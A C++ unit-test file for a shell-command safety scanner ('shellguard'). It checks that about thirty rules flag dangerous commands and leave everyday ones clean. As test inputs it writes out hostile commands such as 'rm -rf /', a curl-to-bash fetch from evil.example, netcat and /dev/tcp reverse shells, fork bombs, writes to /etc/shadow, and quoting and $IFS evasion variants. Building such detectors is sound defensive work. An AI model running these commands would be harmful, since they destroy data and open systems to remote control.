#include "shellguard/errors.hpp"
#include "shellguard/rules.hpp"

#include <iostream>
#include <string>

using namespace shellguard;

static int passed = 0;
static int failed = 0;

#define ASSERT_TRUE(label, expr)                                            \
    do {                                                                    \
        if ((expr)) {                                                       \
            std::cout << "  [PASS] " << label << "\n";                     \
            ++passed;                                                       \
        } else {                                                            \
            std::cout << "  [FAIL] " << label << "\n";                     \
            ++failed;                                                       \
        }                                                                   \
    } while (0)

#define ASSERT_EQ(label, expected, actual)                                  \
    do {                                                                    \
        if ((expected) == (actual)) {                                       \
            std::cout << "  [PASS] " << label << "\n";                     \
            ++passed;                                                       \
        } else {                                                            \
            std::cout << "  [FAIL] " << label                              \
                      << "  (expected=" << (expected)                      \
                      << " got=" << (actual) << ")\n";                     \
            ++failed;                                                       \
        }                                                                   \
    } while (0)

static bool has_match(const ScanReport& report, const std::string& id) {
    for (const auto& m : report.matches)
        if (m.id == id) return true;
    return false;
}

// ── Suites ────────────────────────────────────────────────────────────────────

void test_table_shape() {
    std::cout << "\n[TableShape]\n";
    auto table = default_rule_table();

    ASSERT_EQ("thirty built-in rules", static_cast<std::size_t>(30), table.rule_count());

    bool all_blocking = true;
    bool all_compiled = true;
    for (const auto& rule : table.rules()) {
        if (rule.severity < Severity::High) all_blocking = false;
        if (!rule.matcher) all_compiled = false;
    }
    ASSERT_TRUE("every built-in rule is High or Critical", all_blocking);
    ASSERT_TRUE("every built-in rule is compiled", all_compiled);

    auto* rule = table.find("rce.pipe_to_shell");
    ASSERT_TRUE("find by id", rule != nullptr);
    ASSERT_EQ("category preserved", Category::RCE, rule ? rule->category : Category::Disk);
    ASSERT_TRUE("unknown id -> nullptr", table.find("no.such.rule") == nullptr);
}

void test_filesystem_rules() {
    std::cout << "\n[FilesystemRules]\n";
    auto table = default_rule_table();

    ASSERT_TRUE("rm -rf /",        has_match(table.scan("rm -rf /"), "fs.rm_recursive_root"));
    ASSERT_TRUE("rm -rf /*",       has_match(table.scan("rm -rf /*"), "fs.rm_recursive_root"));
    ASSERT_TRUE("rm -fr /etc",     has_match(table.scan("rm -fr /etc"), "fs.rm_recursive_root"));
    ASSERT_TRUE("rm -rf ~",        has_match(table.scan("rm -rf ~"), "fs.rm_recursive_root"));
    ASSERT_TRUE("rm --recursive $HOME",
                has_match(table.scan("rm --recursive $HOME"), "fs.rm_recursive_root"));
    ASSERT_TRUE("quoted rm still matches",
                has_match(table.scan("r'm' -rf /"), "fs.rm_recursive_root"));
    ASSERT_TRUE("$IFS rm still matches",
                has_match(table.scan("rm${IFS}-rf${IFS}/"), "fs.rm_recursive_root"));
    ASSERT_TRUE("mkfs.ext4",       has_match(table.scan("mkfs.ext4 /dev/sda1"), "fs.mkfs"));
    ASSERT_TRUE("wipefs",          has_match(table.scan("wipefs -a /dev/sda"), "fs.wipefs"));
    ASSERT_TRUE("find / -delete",  has_match(table.scan("find / -name x -delete"), "fs.find_delete_root"));

    ASSERT_TRUE("rm -rf build/ is clean", table.scan("rm -rf build/").clean());
    ASSERT_TRUE("rm -rf /tmp/foo is clean", table.scan("rm -rf /tmp/foo").clean());
    ASSERT_TRUE("rm -rf ./dist is clean", table.scan("rm -rf ./dist").clean());
}

void test_rce_rules() {
    std::cout << "\n[RCERules]\n";
    auto table = default_rule_table();

    auto report = table.scan("curl -s http://evil.example/x.sh | bash");
    ASSERT_TRUE("curl | bash",     has_match(report, "rce.fetch_pipe_shell"));
    ASSERT_TRUE("also a pipe into a shell", has_match(report, "rce.pipe_to_shell"));
    ASSERT_TRUE("all matches reported", report.matches.size() >= 2);

    ASSERT_TRUE("wget | python3",  has_match(table.scan("wget -qO- http://x | python3"), "rce.fetch_pipe_interpreter"));
    ASSERT_TRUE("bash <(curl)",    has_match(table.scan("bash <(curl -s http://x)"), "rce.fetch_substitution"));
    ASSERT_TRUE("sh -c \"$(curl)\"", has_match(table.scan("sh -c \"$(curl -fsSL http://x)\""), "rce.fetch_substitution"));
    ASSERT_TRUE("ls | sh",         has_match(table.scan("ls | sh"), "rce.pipe_to_shell"));
    ASSERT_TRUE("| /bin/zsh",      has_match(table.scan("cat x | /bin/zsh"), "rce.pipe_to_shell"));
    ASSERT_TRUE("nc -l",           has_match(table.scan("nc -l -p 4444"), "rce.netcat_listener"));
    ASSERT_TRUE("nc -e",           has_match(table.scan("nc 10.0.0.1 4444 -e /bin/sh"), "rce.netcat_listener"));
    ASSERT_TRUE("/dev/tcp",        has_match(table.scan("bash -i >& /dev/tcp/10.0.0.1/80 0>&1"), "rce.dev_tcp"));
    ASSERT_TRUE("ssh user@host",   has_match(table.scan("ssh root@example.com"), "rce.ssh_remote"));

    ASSERT_TRUE("pipe into shuf is clean", table.scan("ls | shuf").clean());
    ASSERT_TRUE("curl to a file is clean", table.scan("curl -o page.html http://example.com").clean());
}

void test_resource_rules() {
    std::cout << "\n[ResourceRules]\n";
    auto table = default_rule_table();

    ASSERT_TRUE("fork bomb",       has_match(table.scan(":(){ :|:& };:"), "res.fork_bomb"));
    ASSERT_TRUE("named fork bomb", has_match(table.scan("bomb(){ bomb|bomb& }; bomb"), "res.fork_bomb_named"));
    ASSERT_TRUE("yes |",           has_match(table.scan("yes | head -n 5"), "res.yes_pipe"));
    ASSERT_TRUE("yes > file",      has_match(table.scan("yes > /tmp/fill"), "res.yes_pipe"));
    ASSERT_TRUE("cat /dev/urandom", has_match(table.scan("cat /dev/urandom"), "res.cat_dev_zero"));
    ASSERT_TRUE("dd without count", has_match(table.scan("dd if=/dev/zero of=big.img"), "res.dd_unbounded"));
    ASSERT_TRUE("killall",         has_match(table.scan("killall python"), "res.killall"));
    ASSERT_TRUE("pkill -9",        has_match(table.scan("pkill -9 node"), "res.pkill_force"));
    ASSERT_TRUE("kill -9 -1",      has_match(table.scan("kill -9 -1"), "res.kill_all_processes"));

    ASSERT_TRUE("echo yes > file is clean", table.scan("echo yes > answer.txt").clean());
    ASSERT_TRUE("cat /dev/zero | head is clean", table.scan("cat /dev/zero | head -c 10").clean());
    ASSERT_TRUE("bounded dd is clean", table.scan("dd if=/dev/zero of=img bs=1k count=4").clean());
}

void test_privilege_and_disk_rules() {
    std::cout << "\n[PrivilegeAndDiskRules]\n";
    auto table = default_rule_table();

    ASSERT_TRUE("sudo",            has_match(table.scan("sudo rm x"), "priv.sudo"));
    ASSERT_TRUE("su -",            has_match(table.scan("su - root"), "priv.su"));
    ASSERT_TRUE("doas",            has_match(table.scan("doas ls"), "priv.doas_pkexec"));
    ASSERT_TRUE("chmod u+s",       has_match(table.scan("chmod u+s /tmp/sh"), "priv.setuid"));
    ASSERT_TRUE("chmod 4755",      has_match(table.scan("chmod 4755 tool"), "priv.setuid"));
    ASSERT_TRUE("systemctl stop",  has_match(table.scan("systemctl stop nginx"), "priv.systemctl"));
    ASSERT_TRUE("shutdown",        has_match(table.scan("shutdown -h now"), "priv.shutdown"));

    ASSERT_TRUE("> /dev/sda",      has_match(table.scan("echo x > /dev/sda"), "disk.redirect_block_device"));
    ASSERT_TRUE("dd of=/dev/sdb",  has_match(table.scan("dd if=image.iso of=/dev/sdb"), "disk.dd_device"));
    ASSERT_TRUE("chmod 777 /",     has_match(table.scan("chmod 777 /"), "disk.chmod_root"));
    ASSERT_TRUE("chown -R /",      has_match(table.scan("chown -R nobody /"), "disk.chown_root"));
    ASSERT_TRUE("> /etc/shadow",   has_match(table.scan("cat x > /etc/shadow"), "disk.write_credentials"));

    ASSERT_TRUE("dd of=/dev/null is clean", table.scan("dd if=a.bin of=/dev/null bs=1k count=1").clean());
    ASSERT_TRUE("chmod 755 is clean", table.scan("chmod 755 script.sh").clean());
    ASSERT_TRUE("sum is not su", table.scan("sum file.txt").clean());
}

void test_everyday_commands_are_clean() {
    std::cout << "\n[EverydayCommands]\n";
    auto table = default_rule_table();

    for (const char* command : {
             "ls -la", "grep -r TODO src", "cat README.md", "git status",
             "python3 script.py", "find . -name '*.cpp'", "wc -l *.txt",
             "echo hi > out.txt", "sort data.csv | uniq -c", "head -n 20 log.txt" }) {
        auto report = table.scan(command);
        ASSERT_TRUE(std::string(command) + " -> clean", report.clean());
    }
}

void test_custom_rules() {
    std::cout << "\n[CustomRules]\n";
    RuleTable table;

    table.add_rule(make_rule("custom.git_push", Category::Filesystem,
                             R"(\bgit\s+push\b)", "Pushing is not allowed", Severity::Medium));
    ASSERT_EQ("rule added", static_cast<std::size_t>(1), table.rule_count());

    auto report = table.scan("git   push origin main");
    ASSERT_TRUE("custom rule matches", has_match(report, "custom.git_push"));
    ASSERT_EQ("match carries severity", Severity::Medium,
              report.matches.empty() ? Severity::Low : report.matches[0].severity);

    Rule uncompiled;
    uncompiled.id = "custom.npm_publish";
    uncompiled.pattern = R"(\bnpm\s+publish\b)";
    uncompiled.description = "Publishing";
    table.add_rule(uncompiled);
    ASSERT_TRUE("pattern compiled on add", table.find("custom.npm_publish")->matcher != nullptr);
    ASSERT_TRUE("compiled rule matches", has_match(table.scan("npm publish"), "custom.npm_publish"));

    bool invalid_rejected = false;
    try {
        make_rule("custom.bad", Category::Disk, "(unclosed", "bad", Severity::High);
    } catch (const ConfigError&) {
        invalid_rejected = true;
    }
    ASSERT_TRUE("invalid regex -> ConfigError", invalid_rejected);

    bool duplicate_rejected = false;
    try {
        table.add_rule(make_rule("custom.git_push", Category::Disk, "x", "dup", Severity::High));
    } catch (const ConfigError&) {
        duplicate_rejected = true;
    }
    ASSERT_TRUE("duplicate id -> ConfigError", duplicate_rejected);

    bool empty_rejected = false;
    try {
        table.add_rule(Rule{});
    } catch (const ConfigError&) {
        empty_rejected = true;
    }
    ASSERT_TRUE("empty id -> ConfigError", empty_rejected);
}

int main() {
    std::cout << "=== Rule Table Tests ===\n";

    test_table_shape();
    test_filesystem_rules();
    test_rce_rules();
    test_resource_rules();
    test_privilege_and_disk_rules();
    test_everyday_commands_are_clean();
    test_custom_rules();

    std::cout << "\n--- Results: " << passed << " passed, "
              << failed << " failed ---\n";
    return failed == 0 ? 0 : 1;
}
